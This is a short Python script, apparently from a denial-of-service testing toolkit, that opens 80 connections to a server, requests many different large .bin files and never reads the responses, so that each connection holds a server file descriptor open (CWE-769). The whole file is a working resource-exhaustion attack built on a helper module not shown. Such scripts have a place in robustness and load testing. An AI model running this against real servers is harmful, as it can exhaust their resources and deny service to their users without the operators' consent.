#!/usr/bin/env python3
"""Asks for many different large files and takes nothing of them, so that each keeps a file descriptor of the server
open (CWE-769)."""

from sender import Attack, arguments, request, stands


class OpenFiles(Attack):
    def begin(self, sock):
        sock.sendall(request(self.path()))

    def step(self, sock):
        return stands(sock)


OpenFiles(arguments(__doc__, connections=80, path="/{}.bin"), receive_buffer=4096).run()
